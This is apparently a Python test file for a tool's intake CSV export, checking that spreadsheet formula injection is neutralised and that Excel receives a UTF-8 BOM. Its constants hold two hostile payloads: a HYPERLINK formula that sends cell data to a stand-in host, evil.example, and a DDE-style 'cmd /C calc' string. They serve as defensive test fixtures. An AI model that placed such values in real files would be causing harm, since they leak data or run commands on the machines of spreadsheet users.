"""The intake export opened in a spreadsheet: a hostile template's options and categories stay text."""

from __future__ import annotations

import csv
import tomllib

from click.testing import CliRunner

from fieldkit.cli import main
from fieldkit.event import create_event, load_event
from fieldkit.event.template import parse_template
from fieldkit.intake import surveys as sv
from fieldkit.intake import timers as it
from tests.conftest import PASSPHRASE, SAMPLE_EVENTS

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Sleep")'
CATEGORY = "@SUM(1+1)*cmd|' /C calc'!A0"


def hostile_template():
    """The sample event, as if a template from another community had been tampered with."""
    data = tomllib.loads((SAMPLE_EVENTS / "wellbeing-popup.toml").read_text(encoding="utf-8"))
    data["surveys"][0]["questions"][0]["options"].append(FORMULA)  # heard_from
    data["intent_categories"].append({"id": CATEGORY, "label": "Other (hostile)"})
    data["event"]["name"] = "Ευεξία Pop-up"
    return parse_template(data, "hostile.toml")


def test_formula_looking_cells_are_written_as_text_and_excel_gets_a_bom(tmp_path):
    db = tmp_path / "event.db"
    store = create_event(db, hostile_template(), PASSPHRASE)
    started = it.start_timer(store)
    it.stop_timer(store, started.timer_id, CATEGORY)
    survey = load_event(store).template.surveys[0]
    sv.submit_response(store, survey, {"heard_from": FORMULA, "introduced": "no", "wellbeing": 3})
    store.close()
    out = tmp_path / "intake.csv"
    result = CliRunner().invoke(main, ["intake", "export", "--db", str(db), "--out", str(out), "--excel"],
                                env={"FIELDKIT_PASSPHRASE": PASSPHRASE})
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads the file as UTF-8
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    cells = [value for row in rows for value in row.values() if value]
    assert "'" + CATEGORY in cells and "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [r["answer"] for r in rows if r["question_id"] == "wellbeing"] == ["3"]  # numbers stay numbers
